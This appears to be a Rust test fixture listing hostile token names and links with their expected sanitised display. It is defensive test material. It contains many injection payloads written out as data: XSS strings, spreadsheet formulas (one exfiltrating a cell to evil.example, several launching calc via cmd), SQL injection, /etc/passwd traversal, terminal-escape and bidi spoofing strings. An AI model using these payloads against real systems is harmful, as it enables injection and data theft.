//! Hostile token names in a provider's JSON, and how they must be displayed.

/// One name.
pub struct NameCase {
    pub title: &'static str,
    /// The JSON string in the response; may be invalid UTF-8.
    pub json: Vec<u8>,
    /// The name in every output.
    pub displayed: String,
    pub adjustment: Option<&'static str>,
}

const CLEANED: Option<&str> = Some("cleaned_value");

fn changed(title: &'static str, text: &str, displayed: &str, adjustment: Option<&'static str>) -> NameCase {
    let json = serde_json::to_vec(text).unwrap();
    NameCase { title, json, displayed: displayed.to_owned(), adjustment }
}

fn unchanged(title: &'static str, text: &str) -> NameCase {
    changed(title, text, text, None)
}

fn undecodable(title: &'static str, json: &[u8], displayed: &str) -> NameCase {
    NameCase { title, json: json.to_vec(), displayed: displayed.to_owned(), adjustment: CLEANED }
}

pub fn cases() -> Vec<NameCase> {
    vec![
        unchanged("quotes", r#"it's "quoted" \ and `ticked`"#),
        unchanged("the end of a label", r#"x"} 1"#),
        changed("another sample", "x\"} 1\ntoken_evil{a=\"b", "x\"} 1token_evil{a=\"b", CLEANED),
        unchanged("escapes of the exposition", r#"\n \\ \" \x"#),
        changed("line breaks", "one\r\ntwo\nthree\u{85}four", "onetwothreefour", CLEANED),
        changed("line breaks of Unicode", "one\u{2028}two\u{2029}three", "onetwothree", CLEANED),
        changed("NUL", "nul\u{0}nul", "nulnul", CLEANED),
        changed("terminal escapes", "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31mred", "[2J]0;title31mred", CLEANED),
        changed("direction marks", "invoice\u{202e}fdp.exe\u{2066}\u{200f}", "invoicefdp.exe", CLEANED),
        changed(
            "stacked combining marks",
            &format!("Z{}algo", "\u{336}\u{35c}".repeat(60)),
            "Z\u{336}\u{35c}\u{336}\u{35c}algo",
            CLEANED,
        ),
        changed("a megabyte", &"m".repeat(1_000_000), &format!("{}…", "m".repeat(199)), Some("cut_value")),
        undecodable(
            "invalid UTF-8",
            b"\"bytes \xff\xfe\xed\xa0\x80 end\"",
            "bytes \u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd} end",
        ),
        undecodable("a lone surrogate", br#""half \ud800 end""#, "half \u{fffd} end"),
        undecodable("surrogates in the wrong order", br#""half \udfff\ud83d\ude00""#, "half \u{fffd}😀"),
        unchanged("a Go template", r#"{{ $labels.token_owner }} {{ .ExternalURL }} {{ template "x" . }} {{"#),
        unchanged("a failing Prometheus template", "{{ query \"up\" | first | value }}{{ end }}"),
        unchanged("HTML", "<script>alert(1)</script><img src=x onerror=alert(2)>"),
        unchanged("an attribute", "\" onmouseover=alert(1) x='\"><svg/onload=alert(3)>"),
        unchanged("the end of a table", "</td></tr></table></body></html><!--"),
        unchanged("an entity", "&lt;b&gt; &amp; &#x3c;"),
        unchanged("a javascript URL", "javascript:alert(document.domain)"),
        unchanged("a formula", "=HYPERLINK(\"https://evil.example/?\"&A1,\"renew\")"),
        unchanged("a formula with plus", "+1+cmd|' /C calc'!A0"),
        unchanged("a formula with minus", "-2+3+cmd|' /C calc'!A0"),
        unchanged("a formula with at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        unchanged("a wide formula", "＝1+1"),
        unchanged("a formula behind a semicolon", "a; =1+1;@x"),
        changed("a formula behind a tab", "\t=1+1\r", "=1+1", CLEANED),
        unchanged("another cell", "a\",\"b,c"),
        changed(
            "a calendar event",
            "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
            "xEND:VEVENTBEGIN:VEVENTSUMMARY:evil",
            CLEANED,
        ),
        unchanged("calendar escapes", r"a,b;c:d\n\,\;"),
        unchanged("a folded line", &"ä, ".repeat(66)[..195]),
        changed(
            "another log line",
            "x\nts=2026-01-01T00:00:00Z level=error msg=evil",
            "xts=2026-01-01T00:00:00Z level=error msg=evil",
            CLEANED,
        ),
        unchanged("the end of a log message", r#"" level=error msg="evil" {"level":"error"}"#),
        unchanged("a chat mention", "<!channel> @here <https://evil.example|renew>"),
        unchanged("other scripts", "Зоя 日本語 عربي עברית Việt 🔑👩‍💻"),
        unchanged("SQL", "'; DROP TABLE tokens;-- ' OR 1=1"),
        unchanged("a path", "../../../etc/passwd%2e%2e%2f?a=b#c"),
    ]
}

/// Links, and how they are displayed.
pub const LINKS: [(&str, Option<&str>); 10] = [
    ("https://ok.example/a?b=c&d=e", Some("https://ok.example/a?b=c&d=e")),
    ("https://ok.example/\"><script>alert(1)</script>", Some("https://ok.example/\"><script>alert(1)</script>")),
    ("https://\u{430}pple.example/", Some("https://xn--pple-43d.example/")),
    ("https://ok.example\u{202e}/moc.live", Some("https://ok.example/moc.live")),
    ("https://login.example@evil.example/", None),
    ("javascript:alert(1)", None),
    ("JaVaScRiPt://x/%0aalert(1)", None),
    ("data:text/html,<script>alert(1)</script>", None),
    ("https:evil.example", None),
    ("http://[", None),
];
